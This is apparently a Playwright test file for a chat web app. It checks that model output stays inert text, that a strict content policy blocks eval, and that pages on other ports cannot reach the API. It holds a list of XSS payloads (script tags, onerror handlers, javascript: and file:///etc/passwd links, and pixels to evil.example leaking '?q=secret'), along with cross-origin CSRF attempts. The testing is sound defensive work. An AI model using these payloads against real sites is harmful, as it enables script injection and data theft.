"""Groups A and C in a real browser: other pages cannot reach us, and what a model writes stays text."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.api.world import World
from tests.browser.conftest import Window

HOSTILE = """
<script>window.hacked=1</script><img src=x onerror="window.hacked=1"><svg onload="window.hacked=1">
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><form action="http://evil.example"><button>Allow</button></form>
<div style="position:fixed;inset:0">overlay</div><meta http-equiv="refresh" content="0;url=http://evil.example">
[a](javascript:window.hacked=1) [b](java\tscript:alert(1)) [c](data:text/html,<script>1</script>) [d](vbscript:x)
[e](file:///etc/passwd) ![f](http://evil.example/pixel.png?q=secret) ![g][r] <http://evil.example/auto>
[h](//evil.example/x) [i](\\\\evil.example\\share) [j](JaVaScRiPt:alert(1)) [k](&#106;avascript:alert(1))

[r]: http://evil.example/ref.png

```html"><script>window.hacked=1</script>
<img src=x onerror=window.hacked=1>
```

| <img src=x onerror=window.hacked=1> | b |
|---|---|
| <script>window.hacked=1</script> | `<b>` |
"""


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """A page of somebody else on another loopback port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>elsewhere</title>")

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.parametrize("pieces", ["whole", "one character at a time"])
def test_C1_C2_C3_C6_what_a_model_writes_stays_text_and_nothing_leaves(
    world: World, window: Window, pieces: str
) -> None:
    requests: list[str] = []
    window.page.on("request", lambda request: requests.append(request.url))
    chat = world.conversation(title="hostile", model="fake:scripted")
    page = window.open(world)
    page.get_by_text("hostile").first.click()
    text = HOSTILE if pieces == "whole" else "[[chars]]" + HOSTILE
    window.say(text)
    world.wait(chat, "finished")
    expect(page.get_by_label("Conversation")).to_contain_text("You said")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert [url for url in requests if not url.startswith(world.server.url) and not url.startswith("blob:")] == []
    conversation = page.get_by_label("Conversation")
    for tag in ("script", "iframe", "form", "svg[onload]", "meta", "object", "img[src^=http]", "[style*=fixed]"):
        assert conversation.locator(tag).count() == 0, tag
    hrefs = conversation.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert all(href.startswith(("http://evil.example/", "mailto:")) for href in hrefs), hrefs


def test_C5_the_page_has_the_strict_policy(world: World, window: Window) -> None:
    page = window.open(world)
    for script in (
        "eval('1')",
        "document.createElement('div').innerHTML = '<b>x</b>'",
        "document.createElement('iframe').srcdoc = '<b>x</b>'",
        "new Function('return 1')()",
    ):
        # from a timer: what Playwright evaluates itself is allowed to get around the policy
        timer = f"setTimeout(() => {{ try {{ {script}; done('ran') }} catch {{ done('threw') }} }}, 0)"
        assert page.evaluate(f"() => new Promise((done) => {timer})") == "threw", script
    window.complaints.clear()


def test_C12_a_link_asks_with_its_whole_address_and_the_window_stays(world: World, window: Window) -> None:
    chat = world.conversation(title="links", model="fake:scripted")
    page = window.open(world)
    page.get_by_text("links").first.click()
    window.say("[click me](https://example.org/a?b=c) please")
    world.wait(chat)
    page.get_by_label("Answer", exact=True).get_by_role("link", name="click me").click()
    expect(page.get_by_role("dialog")).to_contain_text("https://example.org/a?b=c")
    assert page.url.startswith(world.server.url)


def test_A7_a_page_on_another_port_reaches_nothing(
    world: World, window: Window, browser: Browser, elsewhere: str
) -> None:
    window.open(world)
    other = window.context.new_page()  # the same cookies: they ignore ports
    other.goto(elsewhere)
    before = world.get("/api/snapshot")
    base = world.server.url
    results = other.evaluate(
        """async (base) => {
          const tried = {};
          const go = async (name, work) => { try { tried[name] = await work(); } catch { tried[name] = 'refused'; } };
          await go('fetch', async () => (await fetch(base + '/api/snapshot', {credentials: 'include'})).status);
          await go('opaque', async () => (await fetch(base + '/api/conversations', {method: 'POST', mode: 'no-cors',
            credentials: 'include', headers: {'Content-Type': 'text/plain'}, body: '{"title":"evil"}'})).type);
          await go('events', () => new Promise((yes) => { const s = new EventSource(base + '/api/events',
            {withCredentials: true}); s.onopen = () => yes('open'); s.onerror = () => yes('refused'); }));
          await go('image', () => new Promise((yes) => { const i = new Image(); i.onload = () => yes('loaded');
            i.onerror = () => yes('refused'); i.src = base + '/api/snapshot'; }));
          await go('form', async () => { const f = document.createElement('form'); f.method = 'POST';
            f.action = base + '/api/conversations'; f.target = '_blank'; f.enctype = 'text/plain';
            document.body.append(f); f.submit(); return 'sent'; });
          return tried; }""",
        base,
    )
    other.wait_for_timeout(300)
    assert results["fetch"] == results["events"] == results["image"] == "refused"
    assert world.get("/api/snapshot") == before
